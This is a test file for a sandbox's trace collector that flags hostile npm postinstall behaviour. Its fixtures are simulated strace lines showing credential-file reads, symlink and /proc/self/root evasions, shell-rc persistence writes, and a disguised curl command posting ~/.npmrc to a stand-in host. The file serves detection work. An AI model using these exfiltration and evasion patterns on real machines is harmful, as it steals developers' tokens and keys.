import { describe, expect, it } from 'vitest'
import { createTraceCollector, loadTraceRules, type TraceScope } from '../../../src/trace/collector.js'
import { createStraceParser } from '../../../src/trace/strace-parser.js'
import type { ObservedEvent } from '../../../src/trace/observed.js'
import type { Finding } from '../../../src/types.js'

const rules = loadTraceRules()
const scope: TraceScope = {
  pkg: { name: 'evil', version: '1.0.0', location: 'node_modules/evil' },
  event: 'postinstall',
  cwd: '/work/p/node_modules/evil',
  projectDir: '/work/p',
  packageDir: '/work/p/node_modules/evil',
  hookTmp: '/run/si/tmp/1-evil',
  decoyHome: '/run/si/home',
  realHome: '/home/alice',
  writable: [],
  proxyPort: 3128,
  network: 'namespace',
}

/** strace lines (pid, time, call) through the real parser into a collector. */
const collect = (lines: string[]): Finding[] => {
  const collector = createTraceCollector(scope, rules)
  const parser = createStraceParser(collector.onEvent)
  parser.push(`${lines.join('\n')}\n`)
  parser.end()
  return collector.findings()
}

const NODE = '10 1.0 execve("/usr/bin/node", ["node", "install.js"], 0x1 /* 9 vars */) = 0'

describe('createTraceCollector', () => {
  it('reports a read of the decoy ~/.npmrc as a credential read that proves intent, folded with its repeats', () => {
    const read = '10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "/run/si/home/.npmrc", O_RDONLY|O_CLOEXEC) = 3</run/si/home/.npmrc>'
    const findings = collect([NODE, read, read.replace(' 1.1 ', ' 1.2 ')])
    expect(findings).toEqual([expect.objectContaining({
      rule: 'credential-read', severity: 'error', package: expect.objectContaining({ name: 'evil' }), event: 'postinstall',
      evidence: expect.objectContaining({ path: '/run/si/home/.npmrc', decoy: true, count: 2, pid: 10, syscall: 'openat' }),
    })])
    expect(findings[0]?.message).toContain('proves intent')
  })
  it('reports an attempt on the real home that the sandbox hid, and resolves relative paths against the decoded cwd', () => {
    const findings = collect([NODE, '10 1.1 openat(AT_FDCWD</home/alice>, ".ssh/id_ed25519", O_RDONLY) = -1 ENOENT (No such file or directory)'])
    expect(findings).toEqual([expect.objectContaining({ rule: 'credential-read', action: 'blocked', evidence: expect.objectContaining({ path: '/home/alice/.ssh/id_ed25519', decoy: false }) })])
  })
  it('does not flag npm reading its own user config', () => {
    const npm = '11 1.0 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "build"], 0x1 /* 9 vars */) = 0'
    const findings = collect([npm, '11 1.1 openat(AT_FDCWD</work/p>, "/run/si/home/.npmrc", O_RDONLY) = 3'])
    expect(findings.filter((f) => f.severity === 'error')).toEqual([])
  })
  it('lets sockets to the bridge, the DNS stub and the capture addresses pass, and reports any other', () => {
    const connect = (addr: string, port: number): string =>
      `10 1.1 connect(5<socket:[1]>, {sa_family=AF_INET, sin_port=htons(${port}), sin_addr=inet_addr("${addr}")}, 16) = -1 EINPROGRESS (Operation now in progress)`
    const findings = collect([NODE, connect('127.0.0.1', 3128), connect('127.0.0.1', 53), connect('127.1.0.7', 443), connect('10.0.0.8', 443), connect('127.0.0.1', 22)])
    expect(findings.map((f) => `${f.rule} ${String(f.evidence['address'])}:${String(f.evidence['port'])}`)).toEqual([
      'direct-connection 10.0.0.8:443', 'direct-connection 127.0.0.1:22',
    ])
  })
  it('reports notable programs by the file really executed', () => {
    const findings = collect([NODE, '12 1.3 execve("/usr/bin/curl", ["npm-helper", "-d", "@/run/si/home/.npmrc", "https://x.test"], 0x1 /* 9 vars */) = 0'])
    expect(findings).toEqual([expect.objectContaining({ rule: 'process-spawn', evidence: expect.objectContaining({ syscall: 'execve' }) })])
  })
  it('allows writes to the package itself and its tmp; reports another package, the manifest and a shell rc', () => {
    const write = (path: string, result = '3'): string => `10 1.2 openat(AT_FDCWD</work/p/node_modules/evil>, "${path}", O_WRONLY|O_CREAT|O_TRUNC, 0666) = ${result}`
    const findings = collect([NODE,
      write('build/out.node'), write('/run/si/tmp/1-evil/x'),
      write('/work/p/node_modules/lodash/index.js', '-1 EROFS (Read-only file system)'),
      write('/work/p/package.json', '-1 EROFS (Read-only file system)'),
      write('/home/alice/.bashrc', '-1 ENOENT (No such file or directory)'),
    ])
    expect(findings.map((f) => `${f.rule} ${f.severity} ${f.action} ${String(f.evidence['path'])}`)).toEqual([
      'package-tamper error blocked /work/p/node_modules/lodash/index.js',
      'package-tamper error blocked /work/p/package.json',
      'persistence error blocked /home/alice/.bashrc',
    ])
  })

  it('reads a unix socket bound to a path as a write, and ptrace of another pid as a memory read', () => {
    const findings = collect([NODE,
      '10 1.4 bind(7<socket:[3]>, {sa_family=AF_UNIX, sun_path="/home/alice/.bashrc"}, 110) = -1 ENOENT (No such file or directory)',
      '10 1.5 ptrace(PTRACE_ATTACH, 1) = -1 EPERM (Operation not permitted)',
      '10 1.6 ptrace(PTRACE_TRACEME) = 0',
    ])
    expect(findings.map((f) => `${f.rule} ${f.action} ${String(f.evidence['path'] ?? f.evidence['target'])}`)).toEqual([
      'persistence blocked /home/alice/.bashrc', 'credential-read blocked 1',
    ])
  })
})

describe('createTraceCollector, evasions', () => {
  it('judges what an open really reached (-y): a symlink in the package, /proc/self/root', () => {
    const findings = collect([NODE,
      '10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "links/netrc", O_RDONLY) = 5</home/alice/.netrc>',
      '10 1.2 openat(AT_FDCWD</work/p/node_modules/evil>, "/proc/self/root/home/alice/.aws/config", O_RDONLY) = 6</home/alice/.aws/config>',
    ])
    expect(findings.map((f) => `${f.rule} ${f.severity} ${String(f.evidence['path'])}`)).toEqual([
      'credential-read error /home/alice/.netrc', 'credential-read error /home/alice/.aws/config',
    ])
  })
  it('does not count the stat node makes of every descriptor it opened as a second look', () => {
    const findings = collect([NODE,
      '10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "/run/si/home/.npmrc", O_RDONLY|O_CLOEXEC) = 5</run/si/home/.npmrc>',
      '10 1.2 statx(5</run/si/home/.npmrc>, "", AT_STATX_SYNC_AS_STAT|AT_EMPTY_PATH, STATX_ALL, {stx_mode=S_IFREG|0600}) = 0',
    ])
    expect(findings).toHaveLength(1)
    expect(findings[0]?.evidence['count']).toBeUndefined()
  })
  it('gives no "expected by" credit to a program the package planted under a trusted name', () => {
    const git = (file: string): string => `13 1.0 execve("${file}", ["git", "credential", "fill"], 0x1 /* 9 vars */) = 0`
    const read = '13 1.1 openat(AT_FDCWD</work/p>, "/run/si/home/.git-credentials", O_RDONLY) = 3'
    const severity = (file: string): string | undefined => collect([git(file), read]).find((f) => f.rule === 'credential-read')?.severity
    expect(severity('/usr/bin/git')).toBe('note')
    expect(severity('/work/p/node_modules/evil/links/git')).toBe('error')
  })
  it('keeps the evidence of the spawn that ran, not of the PATH lookups that failed first', () => {
    const findings = collect([NODE,
      '12 1.3 execve("/usr/local/bin/curl", ["curl", "-s", "x.test"], 0x1 /* 9 vars */) = -1 ENOENT (No such file or directory)',
      '12 1.3 execve("/usr/bin/curl", ["curl", "-s", "x.test"], 0x1 /* 9 vars */) = 0',
    ])
    expect(findings.filter((f) => f.rule === 'process-spawn').map((f) => [f.evidence['result'], f.evidence['count']])).toEqual([[undefined, 2]])
  })
})

describe('createTraceCollector with the preload observer\'s events', () => {
  const observe = (events: ObservedEvent[], network: TraceScope['network'] = 'host'): Finding[] => {
    const collector = createTraceCollector({ ...scope, network, proxyPort: 40123 }, rules)
    for (const event of events) collector.onObserved(event)
    return collector.findings()
  }
  const at = { pid: 20, time: 2.0 }
  it('judges paths, programs and sockets the same way, naming the API that was called', () => {
    const findings = observe([
      { ...at, kind: 'process', op: 'start', ppid: 1, argv: ['/usr/bin/node', '/work/p/node_modules/evil/install.js'], cwd: '/work/p/node_modules/evil' },
      { ...at, kind: 'path', op: 'fs.readFileSync', access: 'read', path: '/home/alice/.aws/credentials' },
      { ...at, kind: 'exec', op: 'child_process.spawn', file: 'curl', argv: ['curl', '-s', 'https://x.test'] },
      { ...at, kind: 'socket', op: 'net.connect', family: 'host', protocol: 'tcp', address: 'exfil.test', port: 443 },
      { ...at, kind: 'socket', op: 'net.connect', family: 'ipv4', protocol: 'tcp', address: '127.0.0.1', port: 40123 },
    ])
    expect(findings.map((f) => `${f.rule} ${f.severity} ${f.action}`)).toEqual([
      'credential-read error reported', 'process-spawn warning reported', 'direct-connection error reported',
    ])
    expect(findings[0]?.evidence).toMatchObject({ call: 'fs.readFileSync', pid: 20, program: ['/usr/bin/node', '/work/p/node_modules/evil/install.js'] })
    expect(findings[2]?.message).toContain('without the network namespace nothing stopped it')
    expect(findings[2]?.evidence).toMatchObject({ address: 'exfil.test', port: 443, family: 'host', protocol: 'tcp' })
  })
  it('inside the namespace, a direct socket is blocked and the capture ports are the proxy', () => {
    const findings = observe([
      { ...at, kind: 'socket', op: 'dgram.send', family: 'ipv4', protocol: 'udp', address: '127.0.0.1', port: 53 },
      { ...at, kind: 'socket', op: 'dgram.send', family: 'ipv4', protocol: 'udp', address: '8.8.8.8', port: 53, errno: 'ENETUNREACH' },
    ], 'namespace')
    expect(findings.map((f) => `${f.rule} ${f.action} ${String(f.evidence['address'])}`)).toEqual(['direct-connection blocked 8.8.8.8'])
    expect(findings[0]?.message).toContain('UDP socket')
  })
  it('without a namespace, the capture ports on loopback are not the proxy', () => {
    const findings = observe([{ ...at, kind: 'socket', op: 'net.connect', family: 'ipv4', protocol: 'tcp', address: '127.0.0.1', port: 443 }])
    expect(findings.map((f) => f.rule)).toEqual(['direct-connection'])
  })

  it('keeps a bounded summary of what the hook did for --verbose, without the runtime and its own places', () => {
    const collector = createTraceCollector({ ...scope, runtimeDirs: ['/opt/node'] }, rules)
    const parser = createStraceParser(collector.onEvent)
    const open = (path: string, flags = 'O_RDONLY', result = '3'): string => `10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "${path}", ${flags}) = ${result}`
    parser.push(`${[
      NODE,
      open('/usr/lib/x86_64-linux-gnu/libc.so.6'), open('/opt/node/lib/node_modules/npm/index.js'), open('/proc/self/maps'),
      open('/work/p/node_modules/evil/index.js'), open('/run/si/tmp/1-evil/x'),
      open('/etc/hosts'), open('/etc/hosts'), open('/run/si/home/.npmrc'),
      open('/home/alice/.ssh/id_rsa', 'O_RDONLY', '-1 ENOENT (No such file or directory)'),
      open('/work/p/package.json', 'O_WRONLY|O_TRUNC', '-1 EROFS (Read-only file system)'),
      open('/dev/null', 'O_WRONLY'),
      '10 1.2 connect(5<socket:[1]>, {sa_family=AF_INET, sin_port=htons(3128), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
      '10 1.2 connect(5<socket:[1]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("10.0.0.8")}, 16) = -1 ENETUNREACH (Network is unreachable)',
    ].join('\n')}\n`)
    parser.end()
    const summary = collector.summary()
    expect(summary.processes).toEqual({ items: ['node install.js'], total: 1, capped: false })
    expect(summary.reads.items).toEqual(['/etc/hosts', '/run/si/home/.npmrc'])
    expect(summary.writes.items).toEqual(['/work/p/package.json (EROFS)'])
    expect(summary.connections.items).toEqual(['10.0.0.8:443 (ENETUNREACH)'])
    expect(summary.dns.total).toBe(0)
  })

  it('counts past the entries it keeps', () => {
    const collector = createTraceCollector(scope, rules)
    for (let i = 0; i < 45; i += 1) collector.onObserved({ kind: 'dns', name: `n${i}.example.test`, pid: 1, time: 1, op: 'dns.lookup' })
    collector.onObserved({ kind: 'dns', name: 'n0.example.test', pid: 1, time: 1, op: 'dns.lookup' })
    const { dns } = collector.summary()
    expect(dns.items).toHaveLength(20)
    expect(dns.total).toBe(45)
  })

  it("starts the summary over at the hook's own shell: what strace saw before is the sandbox launching it", () => {
    const collector = createTraceCollector({ ...scope, command: 'node install.js' }, rules)
    const parser = createStraceParser(collector.onEvent)
    parser.push(`${[
      '9 1.0 execve("/usr/bin/unshare", ["unshare", "--user", "--", "/bin/sh", "-c", "exec 3>&-; exec /bin/sh -c \\"$1\\" sh node install.js"], 0x1 /* 9 vars */) = 0',
      '9 1.1 openat(AT_FDCWD</>, "/proc/9/uid_map", O_WRONLY) = 3',
      '9 1.2 execve("/bin/sh", ["/bin/sh", "-c", "node install.js"], 0x1 /* 9 vars */) = 0',
      '10 1.3 execve("/usr/bin/node", ["node", "install.js"], 0x1 /* 9 vars */) = 0',
      '10 1.4 connect(5<socket:[1]>, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)',
      '10 1.5 openat(AT_FDCWD</work/p/node_modules/evil>, "/etc/hosts", O_RDONLY) = 3',
    ].join('\n')}\n`)
    parser.end()
    const summary = collector.summary()
    expect(summary.processes.items).toEqual(['/bin/sh -c node install.js', 'node install.js'])
    expect(summary.writes.items).toEqual([])
    expect(summary.reads.items).toEqual(['/etc/hosts'])
    expect(summary.connections.items).toEqual([])
  })
})

describe('createTraceCollector with a ~ grant mapped into the real home', () => {
  const view = '/run/si/homes/2-evil/.cache/evil'
  const real = '/home/alice/.cache/evil'
  const mapped: TraceScope = { ...scope, decoyHome: '/run/si/homes/2-evil', writable: [real], homeGrants: [{ grant: '~/.cache/evil', view, real }] }
  const collect = (lines: string[]): { findings: Finding[]; writes: readonly string[] } => {
    const collector = createTraceCollector(mapped, rules)
    const parser = createStraceParser(collector.onEvent)
    parser.push(`${lines.join('\n')}\n`)
    parser.end()
    return { findings: collector.findings(), writes: collector.summary().writes.items }
  }
  const write = (pid: number, path: string, ok = true): string =>
    `${pid} 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "${path}", O_WRONLY|O_CREAT|O_TRUNC, 0644) = ${ok ? `3<${path}>` : '-1 EROFS (Read-only file system)'}`

  it('judges and shows a write through the decoy path as the real path, and notes where the files really went', () => {
    const { findings, writes } = collect([NODE, write(10, `${view}/bin/tool`), write(10, `${real}/bin/other`), write(10, `${view}/bin/tool`)])
    expect(writes).toEqual([`${real}/bin/tool`, `${real}/bin/other`])
    expect(findings).toEqual([expect.objectContaining({
      rule: 'write-outside-package', severity: 'note', action: 'reported', event: 'postinstall',
      evidence: { path: real, grant: '~/.cache/evil', written: [`${real}/bin/tool`, `${real}/bin/other`], entry: 'home-grant' },
    })])
    expect(findings[0]?.message).toContain(`wrote into your real home: ${real}`)
  })
  it('notes nothing when the hook wrote nothing there, and still reports what lies beside the grant', () => {
    const { findings } = collect([NODE, write(10, '/home/alice/.cache/other/x', false), write(10, '/home/alice/.bashrc', false)])
    expect(findings.map((f) => `${f.rule} ${f.severity} ${String(f.evidence['path'])}`)).toEqual([
      'write-outside-package error /home/alice/.cache/other/x', 'persistence error /home/alice/.bashrc',
    ])
  })
  it('judges a credential reached through a link in the grant by the descriptor, not the name', () => {
    const read = `10 1.1 openat(AT_FDCWD</work/p/node_modules/evil>, "${view}/up-npmrc", O_RDONLY) = 3</run/si/homes/2-evil/.npmrc>`
    const { findings } = collect([NODE, read])
    expect(findings).toEqual([expect.objectContaining({ rule: 'credential-read', evidence: expect.objectContaining({ path: '/run/si/homes/2-evil/.npmrc', decoy: true }) })])
  })
})

describe('createTraceCollector: writes that landed in a throwaway copy', () => {
  const write = (path: string): string => `10 1.1 openat(AT_FDCWD</work/p>, "${path}", O_WRONLY|O_CREAT|O_APPEND, 0644) = 3<${path}>`
  const run = (extra: Partial<TraceScope>, path: string): Finding | undefined => {
    const collector = createTraceCollector({ ...scope, ...extra }, rules)
    const parser = createStraceParser(collector.onEvent)
    parser.push(`${[NODE, write(path)].join('\n')}\n`)
    parser.end()
    return collector.findings()[0]
  }
  const hidden = { throwaway: ['/tmp', '/home', '/root'] }

  it('a write into a hidden directory that succeeded went to its empty tmpfs: stopped, and the message says where', () => {
    const found = run(hidden, '/home/alice/.bashrc')
    expect(found).toMatchObject({ rule: 'persistence', severity: 'error', action: 'blocked' })
    expect(found?.message).toContain("it went to the sandbox's empty, throwaway /home, so nothing changed on this machine")
  })

  it('without a mount namespace the same write is reported as done', () => {
    const found = run({ throwaway: [] }, '/home/alice/.bashrc')
    expect(found).toMatchObject({ rule: 'persistence', action: 'reported' })
    expect(found?.message).not.toContain('throwaway')
  })

  it('a write to the decoy home is thrown away with it, on any backend', () => {
    const found = run({ throwaway: [] }, '/run/si/home/.bashrc')
    expect(found).toMatchObject({ rule: 'persistence', action: 'blocked' })
    expect(found?.message).toContain("the sandbox's decoy home, which is deleted after the install")
  })

  it('what the sandbox mounts back inside a hidden directory is real: a project under /tmp is not a throwaway copy', () => {
    const inTmp = { projectDir: '/tmp/p', packageDir: '/tmp/p/node_modules/evil', cwd: '/tmp/p/node_modules/evil' }
    expect(run({ ...hidden, ...inTmp }, '/tmp/p/node_modules/other/index.js')).toMatchObject({ rule: 'package-tamper', action: 'reported' })
    expect(run({ ...hidden, ...inTmp, writable: ['/tmp/granted'] }, '/tmp/granted/.git/hooks/pre-commit')).toMatchObject({ action: 'reported' })
  })
})
